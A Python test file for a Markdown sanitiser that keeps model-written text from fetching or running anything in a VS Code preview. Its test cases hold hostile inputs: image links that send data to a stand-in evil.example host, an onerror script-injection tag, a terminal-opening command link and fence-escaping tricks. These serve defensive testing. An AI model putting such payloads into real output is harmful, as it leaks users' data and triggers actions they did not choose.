"""What a model writes is shown as text and code: nothing is fetched, run or hidden by showing it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from stet_ls.engine.markdown import code_span, fenced, harmless

RENDER = MarkdownIt("commonmark").enable("table").render
"""The renderer of VS Code's preview, in Python: with HTML, images and links of any kind switched on."""

_ACTIVE = re.compile(r"<(?!/?(?:p|h[1-6]|ul|ol|li|em|strong|code|pre|blockquote|hr|br|table|thead|tbody|tr|t[hd])\b)")


def active(markdown: str) -> list[str]:
    """The tags of a rendered text that do more than lay it out."""
    return _ACTIVE.findall(RENDER(markdown))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=code)",
        "[click](command:workbench.action.terminal.new)",
        "<img src=https://evil.example/x onerror=alert(1)>",
        "<https://evil.example/>",
        "![x][y]\n\n[y]: https://evil.example/",
        "[y]\n\n[y]: https://evil.example/",
        "\\![x](https://evil.example/)",
        "\\\\![x](https://evil.example/)",
        "one ` tick\nand `![x](https://evil.example/)` two",
        "\\`![x](https://evil.example/)`",
        "| a | b |\n|---|---|\n| `x | ![x](https://evil.example/)` |",
        "- item\n  ```\n  code\n![x](https://evil.example/)",
        "- item\n  ```\n  ```\n![x](https://evil.example/)\n```",
        "> ```\n![x](https://evil.example/)\n```",
        "````\n```\n   ````\n![x](https://evil.example/)",
        "~~~ a`b\n~~~\n![x](https://evil.example/)",
        "    ```\n![x](https://evil.example/)",
        "a\r```\r![x](https://evil.example/)\r```\r![x](https://evil.example/)",
        "```a|<b>\n|-|-|",
        "``` a`b\n![x](https://evil.example/)\n```",
    ],
)
def test_markdown_of_a_model_fetches_and_runs_nothing(text: str) -> None:
    assert active(text) or "```" in text or "`" in text, "the text would do no harm as it is"
    assert active(harmless(text)) == []
    assert active(harmless(text) + "\n\n_after it_\n") == []


_PIECES = ["![x](u:v)", "[x](u:v)", "<b>", "`", "``", "```", "~~~", "\\", "\n", "\n\n", "- ", "> ", "  ", "    ", "|"]


@given(
    st.lists(st.sampled_from([*_PIECES, "[x]: u:v", "|-|-|", "a", "1. ", "\t", "&lt;", "#", "=", "\r"])).map("".join)
)
def test_no_mixture_of_markup_is_active(text: str) -> None:
    once = harmless(text)
    assert active(once) == []
    assert harmless(once) == once


def test_prose_and_code_are_not_changed() -> None:
    text = (
        "# Title\n\nIt maps `list[str](x)` to `Map<K, V>`, if a < b and c[0] > 1.\n\n- **one**\n- two\n\n"
        "```python\nx = a[0](1)  # <b> ![x](y)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    assert harmless(text) == text


def test_a_block_inside_a_list_is_moved_to_the_margin_and_closed() -> None:
    assert harmless("1. so:\n   ```python\n   if x:\n       y()\n") == "1. so:\n```python\nif x:\n    y()\n\n```"


def test_hidden_characters_are_made_visible() -> None:
    assert harmless("a\x1b]0;x\x07 \u202eb\x9d\u200bc") == "a␛]0;x␇ \ufffdb\ufffd\ufffdc"


@pytest.mark.parametrize("text", ["x", "`![x](u:v)`", "``", "a `` b", " ", "x`\n\n![x](u:v)"])
def test_code_cannot_close_its_block(text: str) -> None:
    assert active(code_span(text)) == []
    assert RENDER(f"- a: {code_span(text)}").count("<code>") == (1 if text.strip() else 0)


def test_a_block_holds_any_text() -> None:
    assert fenced(" ```\n![x](u:v)\n", "diff") == "````diff\n ```\n![x](u:v)\n````\n"
    assert active(fenced(" ````\n```\n![x](u:v)")) == []
